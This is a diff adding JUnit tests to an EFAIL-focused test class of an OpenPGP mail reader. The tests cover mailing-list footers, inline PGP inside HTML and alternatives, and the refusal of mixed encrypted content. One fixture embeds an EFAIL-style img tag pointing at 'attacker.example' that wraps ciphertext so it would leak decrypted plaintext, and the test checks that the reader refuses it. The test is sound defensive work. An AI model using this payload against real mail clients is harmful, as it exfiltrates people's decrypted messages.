@@ -66,6 +66,41 @@ class EfailAndShapesTest {
   }
 
   @Test
+  void mailingListFooterAfterTheEnvelopeIsReturnedApartAndLabelledUnencrypted() throws Exception {
+    String mail =
+        "From: alice@example.org\r\nTo: list@example.org\r\nSubject: hi\r\nMIME-Version: 1.0\r\n"
+            + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
+            + "--M\r\n"
+            + pgpMime(ciphertext(SECRET_INNER, true))
+            + "--M\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
+            + "_______________\r\nList mailing list\r\nhttps://lists.example.org/list\r\n"
+            + "--M--\r\n";
+    ReadMail r = BOB_READER.read(mail.getBytes(UTF_8));
+    assertEquals(MailKind.PGP_MIME_ENCRYPTED, r.kind());
+    assertTrue(r.encrypted());
+    assertEquals(org.sceau.openpgp.SignatureStatus.GOOD, r.signatureStatus());
+    assertEquals("the secret plan\r\n", r.text().orElseThrow());
+    // the footer is not in the decrypted content, only beside it
+    assertTrue(r.body().flatten().stream().noneMatch(p -> p.text().contains("mailing list")));
+    assertEquals(1, r.unencryptedParts().size());
+    assertTrue(r.unencryptedParts().get(0).text().contains("List mailing list"));
+  }
+
+  @Test
+  void htmlBeforeTheEnvelopeIsStillRefusedEvenWithAFooterAfter() throws Exception {
+    String mail =
+        "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n"
+            + "--M\r\n"
+            + pgpMime(ciphertext(SECRET_INNER, true))
+            + "--M\r\nContent-Type: text/plain\r\n\r\nfooter\r\n"
+            + "--M\r\n"
+            + pgpMime(ciphertext(SECRET_INNER, true))
+            + "--M--\r\n";
+    // a second envelope after the first is encrypted content outside: refused
+    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(mail).code());
+  }
+
+  @Test
   void refusesBareEncryptedPartsBetweenAttackerParts() throws Exception {
     // the Exchange-like shape, but with attacker HTML around it instead of an empty text part
     String mail =
@@ -113,6 +148,44 @@ class EfailAndShapesTest {
     assertTrue(r.encrypted());
     assertEquals("inline secret ü", r.text().orElseThrow());
     assertEquals(SignatureStatus.GOOD, r.signatureStatus());
+  }
+
+  @Test
+  void readsInlinePgpInsideHtmlAndInAlternatives() throws Exception {
+    String armored = ciphertext("inline secret ü", true);
+    String html =
+        "<html><body><pre>" + armored.replace("\n", "<br>\n") + "</pre></body></html>\r\n";
+    ReadMail inHtml =
+        BOB_READER.read(
+            ("Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html)
+                .getBytes(UTF_8));
+    assertEquals(MailKind.INLINE_PGP, inHtml.kind());
+    assertEquals("inline secret ü", inHtml.text().orElseThrow());
+    assertEquals(SignatureStatus.GOOD, inHtml.signatureStatus());
+
+    String alt =
+        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
+            + "--A\r\nContent-Type: text/plain\r\n\r\n"
+            + armored
+            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
+            + html
+            + "--A--\r\n";
+    ReadMail inAlt = BOB_READER.read(alt.getBytes(UTF_8));
+    assertEquals(MailKind.INLINE_PGP, inAlt.kind());
+    assertEquals("inline secret ü", inAlt.text().orElseThrow());
+  }
+
+  @Test
+  void anAlternativeWithAttackerHtmlBesideTheCiphertextIsRefused() throws Exception {
+    String alt =
+        "Subject: x\r\nContent-Type: multipart/alternative; boundary=\"A\"\r\n\r\n"
+            + "--A\r\nContent-Type: text/plain\r\n\r\n"
+            + ciphertext(SECRET_INNER, true)
+            + "\r\n--A\r\nContent-Type: text/html\r\n\r\n"
+            + "<img src=\"http://attacker.example/<pre>"
+            + ciphertext(SECRET_INNER, true)
+            + "</pre>\">\r\n--A--\r\n";
+    assertEquals(MailError.MIXED_ENCRYPTED_CONTENT, refused(alt).code());
   }
 
   @Test
